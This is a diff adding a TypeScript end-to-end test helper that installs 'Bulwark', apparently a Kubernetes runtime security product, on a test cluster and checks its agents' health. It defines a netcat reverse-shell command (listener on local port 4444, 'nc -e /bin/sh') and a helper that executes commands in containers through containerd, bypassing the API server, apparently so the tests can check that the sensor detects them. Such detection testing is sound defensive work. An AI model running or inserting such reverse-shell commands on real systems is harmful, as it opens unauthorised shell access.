@@ -1,0 +1,135 @@
+/** Bulwark on a cluster of the tests as a person installs it: images in its registry, one chart, a link to log in. */
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Client } from "@bulwark/contract";
+import { eventually, run } from "@bulwark/testkit";
+import { buildImage } from "../../deploy/images/build.ts";
+import { images } from "../../deploy/images/images.ts";
+import type { Cluster, ClusterNode } from "../cluster/cluster.ts";
+import { login } from "../product.ts";
+
+const chart = join(import.meta.dirname, "../../deploy/helm/bulwark");
+const config = ["--config", "/etc/bulwark/config/bulwark.yaml"];
+
+export interface Installed {
+  readonly namespace: string;
+  /** The console, by the address of its service. */
+  readonly url: string;
+  /** A new one-time link, from a replica. */
+  loginLink(replica?: number): string;
+  api(replica?: number): Promise<Client>;
+  /** Changes values, and waits for what that restarts. */
+  upgrade(values: object): void;
+  uninstall(): void;
+}
+
+/** Builds both images and pushes them to the cluster's registry. */
+export function pushImages({ folder, registry }: Cluster): void {
+  for (const { name } of images) {
+    const { archive, reference } = buildImage(name, join(folder, "bulwark-images"));
+    const target = `docker://${registry.address}/${reference}`;
+    run("skopeo", ["copy", "--quiet", "--dest-tls-verify=false", `oci-archive:${archive}`, target]);
+  }
+}
+
+/** Installs the chart as release `bulwark` and waits until server and agents run. */
+export function install(cluster: Cluster, values: object = {}, namespace = "bulwark"): Installed {
+  let given: object = { image: { registry: cluster.registry.name }, ...values };
+  const helm = (...command: string[]): void => {
+    const file = join(cluster.folder, "values.json");
+    writeFileSync(file, JSON.stringify(given));
+    cluster.helm(...command, "bulwark", chart, "--namespace", namespace, "--values", file);
+    for (const name of ["statefulset/bulwark-server", "daemonset/bulwark-agent"]) rollout(cluster, namespace, name);
+  };
+  helm("install", "--create-namespace");
+  const service = cluster.get("service", "bulwark", namespace) as { spec: { clusterIP: string } };
+  const url = `http://${service.spec.clusterIP}`;
+  const loginLink = (replica = 0): string => {
+    const pod = `bulwark-server-${replica}`;
+    const link = cluster.kubectl("exec", "-n", namespace, pod, "--", "bulwark", "login", ...config).trim();
+    return `${url}/login${new URL(link).hash}`;
+  };
+  return {
+    namespace,
+    url,
+    loginLink,
+    api: async (replica) => login(url, loginLink(replica)),
+    upgrade(more) {
+      given = { ...given, ...more };
+      helm("upgrade");
+    },
+    uninstall: () => void cluster.helm("uninstall", "bulwark", "--namespace", namespace, "--wait"),
+  };
+}
+
+/** Waits until all pods of a workload are those of its present template, and ready. */
+export function rollout(cluster: Cluster, namespace: string, workload: string): void {
+  try {
+    cluster.kubectl("rollout", "status", "-n", namespace, workload, "--timeout=110s");
+  } catch (error) {
+    const asked = [
+      ["get", "pods", "-o", "wide"],
+      ["get", "events", "--field-selector=type=Warning"],
+      ["logs", workload, "--tail=40"],
+    ];
+    const said = asked.map(([verb = "", ...rest]) => {
+      try {
+        return cluster.kubectl(verb, "-n", namespace, ...rest);
+      } catch (failure) {
+        return String(failure);
+      }
+    });
+    throw new Error(`${workload} is not ready\n${said.join("\n")}`, { cause: error });
+  }
+}
+
+/** Every node's agent has joined, and all of its parts that a cluster of the tests allows are well. */
+export async function agentsWatch(api: Client, nodes: readonly ClusterNode[], timeout = 60_000): Promise<void> {
+  const needed = ["agent", "sensor", "kubernetes", "runtime:containerd"];
+  await eventually(
+    "every agent watches its node",
+    async () => {
+      const { components } = await api.getHealth();
+      const lacking = nodes.flatMap(({ name }) =>
+        needed
+          .map((id) => ({ id, found: components.find((part) => part.node === name && part.id === id) }))
+          .filter(({ found }) => found?.state !== "ok")
+          .map(({ id, found }) => `${name} ${id}: ${found ? `${found.state}, ${found.reason}` : "not heard of"}`),
+      );
+      if (lacking.length > 0) throw new Error(lacking.join("; "));
+      return true;
+    },
+    timeout,
+  );
+}
+
+/** A listener in the pod, and a shell that connects to it. */
+export const reverseShell =
+  "(sleep 3 | nc -lp 4444 >/dev/null 2>&1 &); sleep 1; nc 127.0.0.1 4444 -e /bin/sh >/dev/null 2>&1 & sleep 1; true";
+
+/** Runs a command in a running container by its runtime, as if the API server were not there. */
+export function execOnNode(node: ClusterNode, container: string, command: string): void {
+  const id = `exec-${process.hrtime.bigint()}`;
+  // In the node's mount namespace: containerd and its client meet in pipes below /run.
+  const ctr = [`--mount=${node.mounts}`, "ctr", "--namespace", "k8s.io", "tasks", "exec", "--exec-id", id];
+  run("nsenter", [...ctr, container, "sh", "-c", command]);
+}
+
+interface Pod {
+  metadata: { name: string; uid: string; labels: Record<string, string> };
+  spec: { nodeName: string };
+  status: { containerStatuses: { containerID: string }[] };
+}
+
+/** The one running pod that a label selects. */
+export function podOf(cluster: Cluster, namespace: string, label: string) {
+  const found = JSON.parse(
+    cluster.kubectl("get", "pods", "-n", namespace, "-l", label, "--field-selector=status.phase=Running", "-o", "json"),
+  ) as { items: Pod[] };
+  const pod = found.items[0];
+  if (!pod || found.items.length !== 1) throw new Error(`${found.items.length} pods with ${label}`);
+  const node = cluster.nodes.find(({ name }) => name === pod.spec.nodeName);
+  if (!node) throw new Error(`no node ${pod.spec.nodeName}`);
+  const container = pod.status.containerStatuses[0]?.containerID.replace("containerd://", "") ?? "";
+  return { name: pod.metadata.name, uid: pod.metadata.uid, node, container };
+}
